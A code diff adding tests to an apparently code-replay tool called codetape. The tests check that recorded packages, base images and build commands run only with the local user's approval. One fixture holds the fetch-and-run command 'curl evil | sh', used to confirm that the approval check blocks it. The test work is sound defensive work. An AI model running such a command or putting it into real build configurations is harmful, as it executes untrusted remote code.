@@ -14,7 +14,7 @@ from codetape.canonical import canonical
 from codetape.errors import CodetapeError, CorruptTape, TemplateError, UsageError
 from codetape.events import Texts
 from codetape.packs import load_pack
-from codetape.ports import Stream
+from codetape.ports import Built, Stream
 from codetape.prompts import check_pack
 from tests.integration.test_replay import rehashed
 
@@ -193,3 +193,58 @@ def test_a_tape_of_deep_or_giant_values_raises_nothing_but_ours():
     for bad in (line, '{"text":' + "9" * 6000 + "}\n"):
         with pytest.raises(CodetapeError):
             tape.read([next(tape.write(DEMO.session, DEMO.stream)), bad])
+
+
+@pytest.mark.parametrize(
+    ("wanted", "settings", "facts"),
+    [
+        ("the package evil-dist", {"packages": ("evil-dist",), "package_policy": "allow"}, {}),
+        ("the system package evil", {"system_packages": ("evil",)}, {"system_packages": True}),
+        ("the base image evil/base", {}, {"base": "evil/base"}),
+    ],
+)
+def test_what_a_recorded_environment_wants_beyond_known_packages_only_its_user_allows(wanted, settings, facts):
+    """The recorded policies are the recorder's: exec and a live replay go by this machine's user alone."""
+    from codetape.artefacts import SandboxFacts
+    from codetape.rerun import rerun
+    from codetape.result import GenerateResult
+    from codetape.testing import FakeSandbox, MemoryStore
+    from tests.support import ADD, ADD_TESTS, generate, plan
+
+    store = MemoryStore()
+    there = FakeSandbox(facts=SandboxFacts(name="fake", python="3.11", **facts))
+    made, _ = generate(
+        {"plan": [plan()], "code": [ADD], "tests": [ADD_TESTS]}, sandbox=there, store=store, **settings
+    )
+    assert made.succeeded
+    built = []
+    here = FakeSandbox(build=lambda spec: built.append(spec) or Built(spec.name, "", cached=False))
+    stream = asyncio.run(store.read(made.session))
+
+    async def again(**more):
+        return [one async for one in rerun(stream, here, **more)]
+
+    async def run(**more):
+        return await (await GenerateResult.load(store, made.session, sandbox=here, **more)).arun()
+
+    for attempt in (again, run):
+        with pytest.raises(UsageError, match=f"asks for {wanted}.*--allow-build"):
+            asyncio.run(attempt())
+    assert (built, here.jobs) == ([], [])
+    asyncio.run(again(allow_build=True))
+    assert built, "the control: with the user's word it is built"
+    assert asyncio.run(run(allow_build=True)) == {}
+
+
+def test_recorded_build_commands_are_shown_and_run_by_nobody_unasked():
+    from codetape.approval import check_approved, unapproved
+    from codetape.artefacts import SandboxFacts
+    from codetape.commands import BuildSpec
+
+    spec = BuildSpec(python_version="3.11", packages=("pandas",), commands=("curl evil | sh",))
+    facts = SandboxFacts(name="docker", python="3.11", commands=True)
+    assert unapproved(spec, facts) == ("the command 'curl evil | sh'",)
+    with pytest.raises(UsageError, match="curl evil"):
+        check_approved(spec, facts, allowed=False)
+    check_approved(spec, facts, allowed=True)
+    assert unapproved(spec.model_copy(update={"commands": ()}), facts) == ()
